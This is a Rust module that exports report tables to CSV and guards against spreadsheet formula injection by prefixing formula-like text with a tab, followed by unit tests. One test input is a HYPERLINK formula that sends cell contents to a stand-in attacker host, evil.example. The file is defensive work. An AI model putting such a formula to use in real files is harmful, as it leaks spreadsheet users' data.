//! One table of a report for spreadsheets: RFC 4180, UTF-8 with its mark, without which Excel takes it for another
//! encoding.
//!
//! All text is quoted. A program that opens the file computes what looks like a formula, quoted or not, so such text
//! begins with a tab; an apostrophe would not survive being saved there. It changes the text: this is to be read, never to
//! be taken in again.

use super::{clean, is_number};
use crate::document::{Document, Table};
use std::fmt;

/// The document has no table of this name. Leaders get no answers.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct NoSuchTable(pub String);

impl fmt::Display for NoSuchTable {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "this report has no table named {:?}", self.0)
    }
}

impl std::error::Error for NoSuchTable {}

/// The table of a name: `scores`, `answers`, `plan`.
///
/// # Errors
/// When the document has none.
pub fn write(document: &Document, table: &str) -> Result<Vec<u8>, NoSuchTable> {
    let found = Some(table).filter(|name| !name.is_empty()).and_then(|name| document.table(name));
    found.map(|table| lines(table).into_bytes()).ok_or_else(|| NoSuchTable(table.to_owned()))
}

fn lines(table: &Table) -> String {
    let mut out = "\u{feff}".to_owned();
    line(&mut out, table.columns.iter().map(|column| text(&column.title)));
    for row in &table.rows {
        let cells = row.iter().zip(&table.columns).map(|(cell, column)| match cell.plain() {
            number if column.number && is_number(&number) => number,
            words => text(&words),
        });
        line(&mut out, cells);
    }
    out
}

fn line(out: &mut String, cells: impl Iterator<Item = String>) {
    for (i, cell) in cells.enumerate() {
        out.push_str(if i == 0 { "" } else { "," });
        out.push_str(&cell);
    }
    out.push_str("\r\n");
}

fn text(text: &str) -> String {
    let text = clean(text);
    let guard = if computes(&text) { "\t" } else { "" };
    format!("\"{guard}{}\"", text.replace('"', "\"\""))
}

/// Whether a spreadsheet might compute it: by its first sign that is no space, full-width twins included. A sign without
/// width counts as a space.
fn computes(text: &str) -> bool {
    let skipped = |c: char| c.is_whitespace() && c != '\t' || matches!(c, '\u{200b}'..='\u{200f}' | '\u{2060}');
    text.trim_start_matches(skipped).starts_with(['=', '+', '-', '@', '\t', '＝', '＋', '－', '＠'])
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{
        document::{Block, Column, Text},
        formats::document,
    };

    #[test]
    fn no_text_is_a_formula() {
        let check = |typed: &str, expected: &str| assert_eq!(text(typed), expected, "{typed:?}");
        check("Larkspur Shop", "\"Larkspur Shop\"");
        check("", "\"\"");
        check("a=b", "\"a=b\"");
        check("=1+2", "\"\t=1+2\"");
        check("+1", "\"\t+1\"");
        check("-1", "\"\t-1\"");
        check("@SUM(A1)", "\"\t@SUM(A1)\"");
        check("\t=1+2", "\"\t\t=1+2\"");
        check("\r=1+2", "\"\t\n=1+2\"");
        check("  =1+2", "\"\t  =1+2\"");
        check("\u{a0}\u{200b}=1+2", "\"\t\u{a0}\u{200b}=1+2\"");
        check("＝1+2", "\"\t＝1+2\"");
        check("=HYPERLINK(\"https://evil.example/?\"&A1)", "\"\t=HYPERLINK(\"\"https://evil.example/?\"\"&A1)\"");
        check("say \"hi\", a;b", "\"say \"\"hi\"\", a;b\"");
        check("two\nlines", "\"two\nlines\"");
        check("a\0b\u{202e}c", "\"abc\"");
    }

    #[test]
    fn numbers_stay_numbers() {
        let table = Table {
            name: "scores",
            caption: String::new(),
            columns: vec![Column::words("Risk", 1), Column::number("Score", 1)],
            rows: vec![
                vec![Text::strong("7"), "85".into()],
                vec!["-x".into(), "not enough answers".into()],
                vec!["".into(), "-3.5".into()],
            ],
        };
        let document =
            document(vec![Block::Table(Table::default()), Block::Columns([vec![], vec![Block::Table(table)]])]);
        let expected = "\u{feff}\"Risk\",\"Score\"\r\n\"7\",85\r\n\"\t-x\",\"not enough answers\"\r\n\"\",-3.5\r\n";
        assert_eq!(write(&document, "scores"), Ok(expected.as_bytes().to_vec()));
        assert_eq!(write(&document, "answers"), Err(NoSuchTable("answers".to_owned())));
        assert_eq!(write(&document, ""), Err(NoSuchTable(String::new())));
    }
}
